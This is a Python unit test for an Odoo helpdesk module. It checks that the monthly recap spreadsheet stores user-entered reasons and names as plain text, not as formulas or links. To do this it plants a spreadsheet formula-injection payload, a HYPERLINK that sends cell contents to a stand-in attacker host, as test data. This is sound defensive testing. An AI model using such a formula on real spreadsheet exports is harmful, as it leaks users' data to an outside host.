# Copyright 2026 Diskominfo Kabupaten Trenggalek
# License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl).
"""The monthly recap's spreadsheet writes what users wrote as text: a reason or a name
that starts with '=' is no formula, an address no link."""
import io
import zipfile

from odoo import fields

from .common import TikCase

FORMULA = '=HYPERLINK("http://penyerang.example/?"&A1,"Klik")'


class TestRecapText(TikCase):

    def test_user_text_is_text_in_the_spreadsheet(self):
        self.kabid.name = '=1+2'
        ticket = self.file_ticket()
        self.act(ticket, 'helpdesk', {'division_id': self.division_x.id}, 'dispatch')
        self.act(ticket, 'kabid', None, 'reject', reason=FORMULA)
        other = self.file_ticket()
        self.act(other, 'helpdesk', {'division_id': self.division_x.id}, 'dispatch')
        self.act(other, 'kabid', None, 'return_to_helpdesk',
                 reason='external:http://penyerang.example/x.xlsx')
        recap = self.env['tik.recap'].sudo(self.head)
        figures = recap.recap(fields.Date.today()[:7])
        data = recap._workbook(figures)
        with zipfile.ZipFile(io.BytesIO(data)) as book:
            names = book.namelist()
            sheets = b''.join(book.read(name) for name in names
                              if name.startswith('xl/worksheets/sheet'))
            strings = book.read('xl/sharedStrings.xml')
        self.assertIn(b'HYPERLINK', strings)
        self.assertIn(b'external:http://penyerang.example', strings)
        self.assertNotIn(b'<f>', sheets)
        self.assertNotIn(b'<hyperlink', sheets)
        self.assertFalse([name for name in names if 'worksheets/_rels' in name])
